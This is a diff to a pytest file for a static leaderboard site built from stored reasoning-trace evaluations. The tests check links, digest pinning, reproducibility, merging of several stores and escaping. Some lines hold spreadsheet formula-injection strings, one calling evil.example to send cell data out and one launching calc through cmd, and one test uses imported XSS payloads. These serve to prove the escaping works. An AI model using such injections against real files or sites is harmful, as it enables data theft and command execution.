@@ -34,7 +34,7 @@ def test_publish_hand_worked_store(tmp_path: Path, capsys: pytest.CaptureFixture
         == EXIT_OK
     )
     assert capsys.readouterr().out.split() == [
-        str(out / n) for n in ("index.html", "leaderboard.csv", "leaderboard.tex")
+        str(out / n) for n in ("index.html", "leaderboard.csv", "leaderboard.tex", "site.json")
     ]
     table = pd.read_csv(out / "leaderboard.csv").set_index("teacher")
     # ace is shorter on every problem: rank 1 in every resample; the twins tie at 2 throughout;
@@ -117,6 +117,31 @@ def hostile_store(root: Path) -> Path:
     return store.path
 
 
+# --- the site: evidence pages, pinning, --check, --space, several stores (issue 27) -------------
+
+
+def hand_store(path: Path, tokens: dict[str, list[int]], dataset: str = "hand") -> Path:
+    """A store of ``trace_efficiency`` rows (one trace per problem, token counts as given, all
+    correct, 5 steps) and the ``teacher_metrics`` the real metrics stage makes of them."""
+    from legival_core.store import Store
+    from precompute.stages.metrics import teacher_table
+
+    rows = [
+        {"trace_id": f"{teacher}-{dataset}-p{i}", "teacher": teacher, "dataset": dataset,
+         "problem_id": f"p{i}", "correct": True, "tokens": count, "steps": 5,
+         "redundancy": 0.2, "backtracking": 0.0}
+        for teacher, counts in tokens.items()
+        for i, count in enumerate(counts)
+    ]  # fmt: skip
+    store = Store.create(path, config={"synthetic": path.name})
+    store.write("trace_efficiency", pd.DataFrame(rows), stage="metrics")
+    teachers = teacher_table(
+        store.read("trace_efficiency"), pd.DataFrame(), "paper", "interpolate", 0
+    )
+    store.write("teacher_metrics", teachers, stage="metrics")
+    return store.path
+
+
 def test_publish_csv_has_no_live_formula(tmp_path: Path) -> None:
     """Item 12: names like =HYPERLINK(…), +cmd|… and @SUM(…) were written verbatim."""
     import csv
@@ -153,3 +178,249 @@ def test_publish_tex_is_ascii_and_every_special_is_escaped(tmp_path: Path) -> No
     assert r"=HYPERLINK(\textquotedbl{}http://evil.example/?\textquotedbl{}\&A1" in tex
     assert r"+cmd\textbar{}' /C calc'!A0" in tex
     assert re.findall(r"(?<!\{)[\[\]](?!\})", tex) == []  # every bracket braced
+
+
+def hrefs(page: str) -> list[str]:
+    import re
+
+    return re.findall(r'<a href="([^"]+)"', page)
+
+
+@pytest.fixture(scope="module")
+def demo_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    out = tmp_path_factory.mktemp("site") / "demo"
+    assert main(["publish", "--store", str(REPO / "results" / "demo"), "--out", str(out)]) == 0
+    return out
+
+
+def test_demo_site_links_every_value_to_its_traces(demo_site: Path) -> None:
+    import html
+    import re
+
+    from legival_core.store import Store
+
+    store = Store.open(REPO / "results" / "demo")
+    efficiency = store.read("trace_efficiency")
+    index = (demo_site / "index.html").read_text(encoding="utf-8")
+    table = index.split('id="rank-table"', 1)[1].split("</table>", 1)[0]
+    # every cell of the rank table is a link, to its teacher's page: 5 teachers × columns
+    cells = re.findall(r"<td[^>]*>(.*?)</td>", table)
+    assert cells and all(c.startswith('<a href="teachers/') for c in cells)
+    teachers = sorted(set(hrefs(table)))
+    assert len(teachers) == 5  # gpt-3.5, gpt-4, gpt-4-turbo, palm-2-medium, human
+    traces_seen: set[str] = set()
+    for teacher_page in teachers:
+        page = (demo_site / teacher_page).read_text(encoding="utf-8")
+        rows = [h for h in hrefs(page) if h.startswith("../rows/")]
+        assert len(rows) == 5  # the five CHAMP categories
+        for row in rows:
+            row_file = (demo_site / "teachers" / row).resolve()
+            row_text = row_file.read_text(encoding="utf-8")
+            links = [h for h in hrefs(row_text) if h.startswith("../traces/")]
+            # 50 problems in 5 categories, one trace per teacher and problem: 10 per row
+            assert len(links) == 10 and "10 traces." in row_text
+            assert (row_file.with_suffix(".csv")).is_file()
+            traces_seen |= {(row_file.parent / h).resolve().name for h in links}
+    assert len(traces_seen) == 250 == len(list((demo_site / "traces").glob("*.html")))
+    # the row table holds the stored numbers: the first trace of gpt-4 on combinatorics
+    row = efficiency[
+        (efficiency["teacher"] == "gpt-4") & (efficiency["dataset"] == "champ-combinatorics")
+    ].sort_values(["problem_id", "trace_id"])
+    first = row.iloc[0]
+    csv_name = next((demo_site / "rows").glob("gpt-4--champ-combinatorics--*.csv"))
+    shown = pd.read_csv(csv_name).iloc[0]
+    assert shown["trace_id"] == first["trace_id"] and shown["tokens"] == first["tokens"]
+    assert shown["redundancy"] == pytest.approx(first["redundancy"])
+    page = csv_name.with_suffix(".html").read_text(encoding="utf-8")
+    assert html.escape(first["trace_id"]) in page and 'class="sortable"' in page
+
+
+def test_demo_site_shares_assets_and_fits_the_budget(demo_site: Path) -> None:
+    files = [p for p in demo_site.rglob("*") if p.is_file()]
+    size = sum(p.stat().st_size for p in files)
+    assert size <= 30 * 1024 * 1024, size
+    plotly = (demo_site / "assets" / "plotly.min.js").read_text(encoding="utf-8")
+    marker = plotly[200:260]  # a piece of plotly.js: in its asset only, in no page
+    pages = [p for p in files if p.suffix == ".html"]
+    # 1 leaderboard + 5 teachers + 25 rows (5 teachers × 5 categories) + 250 traces
+    assert len(pages) == 1 + 5 + 25 + 250
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        assert marker not in text, page
+        assert "Content-Security-Policy" in text and "<footer>" in text, page
+        assert "site.json</a>" in text, page
+
+
+def test_site_json_pins_the_store_content(demo_site: Path) -> None:
+    import hashlib
+    import json
+
+    pin = json.loads((demo_site / "site.json").read_text(encoding="utf-8"))
+    manifest = json.loads((REPO / "results" / "demo" / "manifest.json").read_text())
+    # The content digest by hand from the formula, on the digests the store itself recorded
+    # for its parts: per table (by name) "table:d1,d2,…" with the digests sorted.
+    lines = [
+        f"{table}:{','.join(sorted(p['blake2b'] for p in entry['parts']))}"
+        for table, entry in sorted(manifest["tables"].items())
+        if entry["parts"]
+    ]
+    expected = hashlib.blake2b("\n".join(lines).encode(), digest_size=16).hexdigest()
+    (store,) = pin["stores"]
+    assert store["name"] == "demo" and store["content_digest"] == expected
+    config = json.dumps(manifest["config"], sort_keys=True, separators=(",", ":"))
+    assert store["config_digest"] == hashlib.blake2b(config.encode(), digest_size=16).hexdigest()
+    assert pin["package_version"] == "0.1.0" and pin["options"]["n_boot"] == 1000
+    assert pin["pages"] == {"teachers": 5, "rows": 25, "traces": 250}
+    # every other file of the site is listed with its digest
+    listed = set(pin["files"])
+    on_disk = {p.relative_to(demo_site).as_posix() for p in demo_site.rglob("*") if p.is_file()}
+    assert listed == on_disk - {"site.json"}
+    # and every page's footer shows the store's digests
+    footer = (demo_site / "index.html").read_text(encoding="utf-8").split("<footer>")[1]
+    assert expected[:12] in footer and store["config_digest"][:12] in footer
+
+
+def test_publish_is_reproducible(demo_site: Path, tmp_path: Path) -> None:
+    again = tmp_path / "again"
+    assert main(["publish", "--store", str(REPO / "results" / "demo"), "--out", str(again)]) == 0
+    assert (again / "site.json").read_bytes() == (demo_site / "site.json").read_bytes()
+
+
+def test_check_detects_a_changed_store_and_a_changed_site(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from legival_core.store import Store
+
+    store = hand_store(tmp_path / "run", {"ace": [100, 110], "bee": [200, 300]})
+    site = tmp_path / "site"
+    assert main(["publish", "--store", str(store), "--out", str(site), "--resamples", "20"]) == 0
+    capsys.readouterr()
+    assert main(["publish", "--check", str(site), "--store", str(store)]) == EXIT_OK
+    line = capsys.readouterr().out
+    assert line.count("\n") == 1 and " matches " in line
+    # a page edited after publishing
+    page = site / "index.html"
+    page.write_text(page.read_text(encoding="utf-8") + "<!-- edited -->", encoding="utf-8")
+    assert main(["publish", "--check", str(site), "--store", str(store)]) == 1
+    assert capsys.readouterr().out == f"{site} does not match: index.html was changed\n"
+    # republished, then the store gains a row: the content digest changes
+    assert main(["publish", "--store", str(store), "--out", str(site), "--resamples", "20"]) == 0
+    more = pd.DataFrame([{"trace_id": "ace-hand-p2", "teacher": "ace", "dataset": "hand",
+                          "problem_id": "p2", "correct": True, "tokens": 120, "steps": 5,
+                          "redundancy": 0.2, "backtracking": 0.0}])  # fmt: skip
+    Store.open(store).write("trace_efficiency", more, stage="metrics")
+    capsys.readouterr()
+    assert main(["publish", "--check", str(site), "--store", str(store)]) == 1
+    out = capsys.readouterr().out
+    assert out.count("\n") == 1 and "its content changed" in out, out
+    # --check with --out is a usage error
+    assert main(["publish", "--check", str(site), "--store", str(store), "--out", "x"]) == 2
+
+
+def test_traces_option_chooses_reproducibly_and_says_so(tmp_path: Path) -> None:
+    from legival_core.site_pages import choose_traces
+
+    demo = str(REPO / "results" / "demo")
+    one, two = tmp_path / "one", tmp_path / "two"
+    for out in (one, two):
+        args = ["publish", "--store", demo, "--out", str(out), "--traces", "3", "--resamples", "20"]
+        assert main(args) == 0
+    pages = sorted(p.name for p in (one / "traces").glob("*.html"))
+    assert len(pages) == 25 * 3  # 25 rows, 3 traces each
+    assert pages == sorted(p.name for p in (two / "traces").glob("*.html"))
+    row = next((one / "rows").glob("gpt-4--champ-sequence--*.html"))
+    text = row.read_text(encoding="utf-8")
+    assert "3 of 10 traces have an annotated page" in text
+    table = pd.read_csv(row.with_suffix(".csv"))
+    linked = sorted(
+        h.split("/")[-1].rsplit("--", 1)[0] for h in hrefs(text) if h.startswith("../traces/")
+    )
+    assert linked == choose_traces(table["trace_id"].tolist(), 3, 0)
+
+
+def test_space_card(tmp_path: Path) -> None:
+    out = tmp_path / "site"
+    store = hand_store(tmp_path / "run", {"ace": [100, 110]})
+    assert main(["publish", "--store", str(store), "--out", str(out), "--space"]) == 0
+    card = (out / "README.md").read_text(encoding="utf-8")
+    header = card.split("---\n")[1]
+    fields = dict(line.split(": ", 1) for line in header.strip().splitlines())
+    assert fields["sdk"] == "static" and fields["app_file"] == "index.html"
+
+
+def test_docker_space_card_is_in_the_repo() -> None:
+    card = (REPO / "deploy" / "docker-space" / "README.md").read_text(encoding="utf-8")
+    fields = dict(line.split(": ", 1) for line in card.split("---\n")[1].strip().splitlines())
+    assert fields["sdk"] == "docker" and fields["app_port"] == "8501"
+
+
+def test_several_stores_one_board(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    run1 = hand_store(tmp_path / "run1", {"ace": [100, 110], "bee": [200, 300]})
+    run2 = hand_store(tmp_path / "run2", {"bee": [400, 600], "cat": [50, 70]})
+    out = tmp_path / "site"
+    base = ["publish", "--store", str(run1), "--store", str(run2), "--out", str(out)]
+    # bee on dataset hand is in both: refused, one line, nothing written
+    assert main([*base, "--resamples", "20"]) == EXIT_USAGE
+    err = capsys.readouterr().err
+    assert err == (
+        "precompute: error: teacher 'bee' on dataset 'hand' is in stores run1 and run2; "
+        "pass --prefer run1 or --prefer run2 to choose\n"
+    )
+    assert not out.exists()
+    assert main([*base, "--resamples", "20", "--prefer", "run2"]) == EXIT_OK
+    table = pd.read_csv(out / "leaderboard.csv").set_index("teacher")
+    # bee from run2: (400 + 600) / 2 = 500 tokens; ace (100 + 110) / 2 = 105 from run1
+    assert table.loc["bee", "tokens"] == pytest.approx(500.0)
+    assert table.loc["ace", "tokens"] == pytest.approx(105.0)
+    assert table.loc["bee", "store"] == "run2" and table.loc["cat", "store"] == "run2"
+    assert table.loc["ace", "store"] == "run1"
+    # n traces behind bee's tokens: run2's two, not run1's
+    assert table.loc["bee", "tokens_n_traces"] == 2
+    import json
+
+    pin = json.loads((out / "site.json").read_text(encoding="utf-8"))
+    assert [s["name"] for s in pin["stores"]] == ["run1", "run2"]
+    assert pin["options"]["prefer"] == "run2"
+    # bee's row page comes from run2, and says so
+    (row,) = (out / "rows").glob("bee--hand--run2-*.html")
+    assert "From store run2" in row.read_text(encoding="utf-8")
+    assert not list((out / "rows").glob("bee--hand--run1-*"))
+    capsys.readouterr()
+    assert main(["publish", "--check", str(out), "--store", str(run1)]) == 1
+    assert "published from 2 store(s), not 1" in capsys.readouterr().out
+    # an unknown --prefer is a usage error too
+    assert main([*base, "--prefer", "run9"]) == EXIT_USAGE
+
+
+def test_trace_page_escapes_as_the_app_does(tmp_path: Path) -> None:
+    """The hostile store's trace pages hold exactly the inspector's HTML of the trace (the
+    function the app renders with), and no payload survives as markup anywhere."""
+    from legival_core import views
+    from legival_core.store import Store
+    from tests.xss_payloads import PAYLOADS, build_hostile_store
+
+    store_path = build_hostile_store(tmp_path / "hostile")
+    out = tmp_path / "site"
+    assert (
+        main(["publish", "--store", str(store_path), "--out", str(out), "--resamples", "20"]) == 0
+    )
+    store = Store.open(store_path)
+    # a trace with a stored leak step (the inspector computes the others the same way)
+    trace_id = str(store.read("trace_transfer")["trace_id"].iloc[0])
+    one = {"trace_id": trace_id}
+    table = views.step_table(
+        store.read("steps", filters=one),
+        store.read("similarity", filters=one),
+        store.read("judgments", filters=one),
+    )
+    strip = views.student_strip(store.read("rollouts", filters=one))
+    leak = views.stored_leak_step(store.read("trace_transfer", filters=one))
+    expected = views.trace_html(
+        table, anchor="lv-main", leak_k=None if leak is views.NOT_STORED else leak, strip=strip
+    )
+    pages = list((out / "traces").glob("*.html"))
+    assert any(expected in p.read_text(encoding="utf-8") for p in pages)
+    markup = [p for p in PAYLOADS.values() if "<" in p]
+    for page in out.rglob("*.html"):
+        text = page.read_text(encoding="utf-8")
+        assert not [p for p in markup if p in text], page
